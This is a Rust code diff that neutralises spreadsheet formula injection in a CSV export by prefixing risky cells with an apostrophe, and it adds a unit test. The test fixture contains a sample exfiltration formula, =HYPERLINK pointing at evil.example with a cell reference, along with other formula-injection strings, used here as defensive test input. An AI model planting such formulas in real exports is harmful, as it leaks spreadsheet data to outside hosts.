@@ -25,10 +25,17 @@ pub struct Table {
 
 fn text(cell: &Cell) -> String {
     match cell {
-        Cell::Text(t) => t.clone(),
+        Cell::Text(t) => neutralised(t),
         Cell::Number(n) => n.to_string(),
         Cell::Decimal(n) => format_hundredths(*n).replace('−', "-"),
     }
+}
+
+/// Text that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or carriage return
+/// first, OWASP's list) gets a leading apostrophe, so `=HYPERLINK(…)` typed into an answer is
+/// shown as text, never run. Numbers are [`Cell::Number`]/[`Cell::Decimal`] and stay numbers.
+pub fn neutralised(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
 }
 
 /// Semicolon-separated, UTF-8 with BOM: Excel in Norway opens it with æøå and decimal commas.
@@ -36,7 +43,7 @@ pub fn to_csv(table: &Table) -> Result<Vec<u8>, AppError> {
     let mut out = "\u{feff}".as_bytes().to_vec();
     {
         let mut w = csv::WriterBuilder::new().delimiter(b';').from_writer(&mut out);
-        w.write_record(&table.headers).map_err(|e| AppError::Internal(e.to_string()))?;
+        w.write_record(table.headers.iter().map(|h| neutralised(h))).map_err(|e| AppError::Internal(e.to_string()))?;
         for row in &table.rows {
             w.write_record(row.iter().map(text)).map_err(|e| AppError::Internal(e.to_string()))?;
         }
@@ -90,4 +97,34 @@ pub fn download(table: &Table, file: &str, stem: &str, save_as: &str) -> Result<
         return Err(AppError::NotFound("Fant ikke filen.".into()));
     };
     Ok(attachment(kind, &format!("{save_as}.{ext}"), bytes))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csv_text_that_would_run_as_a_formula_is_shown_as_text_and_numbers_stay_numbers() {
+        let table = Table {
+            title: "Svar".into(),
+            headers: ["Kommune", "=Sum", "c", "d", "e", "f", "g", "h"].map(String::from).to_vec(),
+            rows: vec![vec![
+                Cell::Text(r#"=HYPERLINK("http://evil.example/?d="&A2,"x")"#.into()),
+                Cell::Text("+1+1".into()),
+                Cell::Text("@SUM(1+1)".into()),
+                Cell::Text("-2+3".into()),
+                Cell::Text("\tx".into()),
+                Cell::Text("Bodø".into()),
+                Cell::Number(-1200),
+                Cell::Decimal(-150),
+            ]],
+        };
+        let csv = String::from_utf8(to_csv(&table).unwrap()).unwrap();
+        let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').lines().collect();
+        assert_eq!(lines[0], "Kommune;'=Sum;c;d;e;f;g;h");
+        assert_eq!(
+            lines[1],
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"x\"\")\";'+1+1;'@SUM(1+1);'-2+3;'\tx;Bodø;-1200;-1,5"
+        );
+    }
 }
